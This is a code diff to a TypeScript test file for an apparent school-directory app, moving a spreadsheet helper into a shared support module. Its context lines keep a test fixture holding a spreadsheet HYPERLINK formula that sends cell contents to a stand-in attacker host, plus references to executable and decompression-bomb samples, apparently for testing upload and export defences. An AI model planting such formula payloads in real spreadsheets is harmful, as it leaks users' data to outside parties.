@@ -14,8 +14,9 @@ import { getScope } from "@/lib/server/auth/get-scope";
 import { db } from "@/lib/server/db/client";
 import { STUDENT_COLUMNS, TEACHER_COLUMNS } from "@/lib/students/student-table";
 import { templateToXlsx } from "@/lib/templates/template-xlsx";
-import { docxSample, exeSample, htmlSample, pdfSample } from "../support/file-samples";
 import { buildTwoTenants, userWithRole } from "../support/directory";
+import { docxSample, exeSample, htmlSample, pdfSample } from "../support/file-samples";
+import { xlsxOf } from "../support/spreadsheets";
 import { useTestDatabase } from "../support/test-database";
 import {
   declaredBombDocx,
@@ -69,13 +70,6 @@ beforeAll(async () => {
     })
   ).scope;
 });
-
-async function xlsxOf(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
-  const workbook = new ExcelJS.Workbook();
-  const sheet = workbook.addWorksheet("Лист1");
-  for (const row of rows) sheet.addRow(row);
-  return Buffer.from(await workbook.xlsx.writeBuffer());
-}
 
 const FORMULA: ExcelJS.CellFormulaValue = { formula: 'HYPERLINK("http://evil.example/steal?c="&A1,"Нажмите")', result: "Нажмите" };
 const csvOf = (rows: string[][]) =>
